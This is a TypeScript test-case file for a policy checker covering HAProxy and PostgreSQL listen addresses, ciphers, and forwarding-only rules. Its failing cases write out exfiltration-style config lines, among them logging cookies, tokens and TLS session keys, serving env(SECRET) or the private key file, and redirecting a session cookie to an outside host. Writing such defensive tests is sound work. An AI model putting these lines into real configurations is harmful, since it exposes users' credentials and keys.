import { edit, inputs, set, type PolicyCases } from "../cases";
import { haproxyText } from "../fixture-files";

const cfg = (from: string, to: string) => edit("terminator", "/etc/haproxy/haproxy.cfg", from, to);
const exposed = "bind 10.214.0.3:9000 ssl";
const first = (line: string) => cfg("defaults", `defaults\n  ${line}`);
const inFrontend = (line: string) => cfg("default_backend s3", `${line}\n  default_backend s3`);
const flag = (value: string) => inputs("postgresql", (given) => given["command"].push("-c", value));

/** Where servers listen, and with which ciphers; part of the transport family. */
export const listening: Record<string, PolicyCases> = {
  "haproxy-listens-at-named-addresses": {
    fail: {
      "every address": cfg(exposed, "bind *:9000 ssl"),
      "no address": cfg(exposed, "bind :9000 ssl"),
      "IPv4 any": cfg(exposed, "bind ipv4@0.0.0.0:9000 ssl"),
      "IPv6 any": cfg(exposed, "bind [::]:9000 ssl"),
      "second of two": cfg(exposed, "bind 10.214.0.3:9000,:9001 ssl"),
    },
    pass: {
      "a Swarm service": set("service-config", {
        data: Buffer.from(haproxyText.replace("bind 10.214.0.3:", "bind :")).toString("base64"),
      }),
    },
  },
  "postgresql-listens-at-named-addresses": {
    fail: {
      star: flag("listen_addresses=*"),
      "IPv4 any": flag("listen_addresses=127.0.0.1,0.0.0.0"),
      "IPv6 any": flag("listen_addresses=::"),
    },
    pass: {
      "two addresses": flag("listen_addresses=127.0.0.1,10.214.0.3"),
      "the socket alone": flag("listen_addresses="),
    },
  },
  "haproxy-ciphers-are-strong": {
    fail: {
      "a short tag": cfg("TLS_AES_128_GCM_SHA256", "TLS_AES_128_CCM_8_SHA256"),
      "no encryption": cfg("TLS_AES_256_GCM_SHA384:", "TLS_SHA256_SHA256:"),
      "on a bind line": cfg(exposed, `${exposed} ciphersuites TLS_AES_128_CCM_8_SHA256`),
      "towards servers": cfg(
        "defaults",
        "  ssl-default-server-ciphersuites TLS_AES_128_CCM_8_SHA256\ndefaults",
      ),
    },
    pass: { "HAProxy's own": cfg("  ssl-default-bind-ciphersuites", "  # ssl-default-bind-ciphersuites") },
  },
  "haproxy-only-forwards": {
    fail: {
      "a log elsewhere": first("log 10.9.0.1:514 local0"),
      "a log of cookies": first("log-format '%ci %[req.cook(session)]'"),
      "a log of headers": first("log-format %[req.hdr(authorization)]"),
      "a log of tokens": first("log-format %[http_auth_bearer]"),
      "a log of what is sent": first("log-format %[req.payload(0,0)]"),
      "a log of session keys": first("log-format %[ssl_fc_session_key,hex]"),
      "a log of traffic secrets": first("log-format %[ssl_fc_server_traffic_secret_0]"),
      "a log of queries": first("log-format '%(query)HQ'"),
      "a log of whole requests": first('log-format "%{+Q}r"'),
      "a log of a variable": first("log-format %[var(txn.kept)]"),
      "a log of the environment": first("log-format '%(of)[env(SECRET)]'"),
      "a log of a path with its query": first("log-format %HU"),
      "a cookie as the name of a host": inFrontend("http-request set-var(txn.host) req.cook(session)"),
      "a header that tells a secret": inFrontend("http-after-response set-header X-Key %[env(SECRET)]"),
      "an answer that tells a secret": inFrontend(
        "http-request return status 200 content-type text/plain lf-string %[env(SECRET)]",
      ),
      "an answer's header that tells a secret": inFrontend(
        "http-request return status 200 content-type text/plain string ok hdr X-Key %[env(SECRET)]",
      ),
      "a cookie sent elsewhere": inFrontend(
        "http-request redirect location https://example.org/?c=%[req.cook(session)] code 302",
      ),
      "HAProxy's own log of requests": first("option httplog"),
      "a captured cookie": inFrontend("capture cookie session len 64"),
      "captured headers": inFrontend("http-request capture req.hdr(authorization) len 64"),
      "a log of keys": cfg("global", "global\n  tune.ssl.keylog on"),
      "a script": cfg("global", "global\n  lua-load /etc/haproxy/script.lua"),
      "a script that answers": inFrontend("http-request use-service lua.answer"),
      "an agent": inFrontend("filter spoe engine agent config /etc/haproxy/spoe.cfg"),
      "a program": cfg("global", "global\n  external-check"),
      "statistics for visitors": inFrontend("stats enable"),
      "early data": cfg(exposed, "bind 10.214.0.3:9000 allow-0rtt ssl"),
      "a key as an answer": inFrontend(
        "http-request return status 200 content-type text/plain file /etc/tls/tls.pem",
      ),
      "a key as a text with expressions": inFrontend(
        "http-request return status 200 lf-file /etc/tls/tls.pem",
      ),
      "a key as an error": first("http-error status 503 content-type text/plain file /etc/tls/tls.pem"),
      "a header that comes back": inFrontend("http-request add-header X-Forwarded-For %[req.hdr(x-real)]"),
      "another name service": cfg("backend far", "resolvers far\n  nameserver far 10.9.0.1:53\nbackend far"),
      "an agent that is asked": cfg(" check\n", " check agent-check agent-addr 10.9.0.1 agent-port 99\n"),
      "a proxy between": cfg("verify required", "socks4 10.9.0.1:1080 verify required"),
      "told peers": inFrontend("stick-table type ip size 1k peers others store http_req_rate(10s)"),
    },
    pass: {
      "a page for errors": first('http-error status 503 content-type "text/html" file /etc/haproxy/503.html'),
      "a fixed header": inFrontend("http-after-response set-header X-Frame-Options DENY"),
      "a fixed way on": inFrontend("http-request redirect location https://localhost/ code 302"),
      "an answer in words": inFrontend('http-request return status 404 content-type text/plain string "No."'),
      "a log of paths": first("log-format '%(time)T %(client)ci %(path)HPO %(retries)rc'"),
      "its network's name service": cfg("backend far", "resolvers r\n  parse-resolv-conf\nbackend far"),
    },
  },
};
